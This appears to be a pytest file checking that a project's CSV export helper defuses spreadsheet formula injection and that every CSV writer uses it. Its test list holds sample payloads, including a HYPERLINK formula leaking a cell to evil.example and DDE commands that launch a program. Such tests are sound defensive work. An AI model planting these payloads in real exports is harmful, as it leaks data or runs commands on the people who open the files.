"""#13, 5.6: no CSV privacydesk writes lets a spreadsheet run a cell as a formula (OWASP
"CSV injection"): text cells that start with = + - @ tab or CR get a leading quote, through
one helper (privacydesk.exports.csvsafe) that every CSV writer in the code base uses."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from privacydesk.exports import csvsafe
from privacydesk.retention import plan

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik hier")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PACKAGE = Path(__file__).resolve().parents[2] / "privacydesk"
HELPER = PACKAGE / "exports" / "csvsafe.py"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(attack):
    out = io.StringIO()
    csvsafe.writer(out).writerow(["id", attack])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["id", "'" + attack]


def test_ordinary_values_are_written_as_they_are():
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["name", "n", "ok", "when"])
    writer.writerows([{"name": "Anna de Vries", "n": -3, "ok": True, "when": date(2026, 1, 2)},
                      {"name": "O'Brien = friend", "n": 0, "ok": False, "when": None}])
    assert out.getvalue().splitlines() == ["Anna de Vries,-3,True,2026-01-02",
                                           "O'Brien = friend,0,False,"]


def test_the_retention_plan_csv_is_neutralised():
    row = plan.PlanRow(date(2026, 12, 31), "4f0c-ref", "names", "=rule", "@law", 2)
    lines = plan.as_csv([row]).splitlines()
    assert lines[0] == ",".join(plan.HEADER)
    assert lines[1] == "2026-12-31,4f0c-ref,names,'=rule,'@law,2"


def test_every_csv_the_code_base_writes_goes_through_the_helper():
    """A new `csv.writer` / `csv.DictWriter` anywhere else would write formulas again."""
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if path != HELPER and raw.search(path.read_text())]
    assert offenders == []
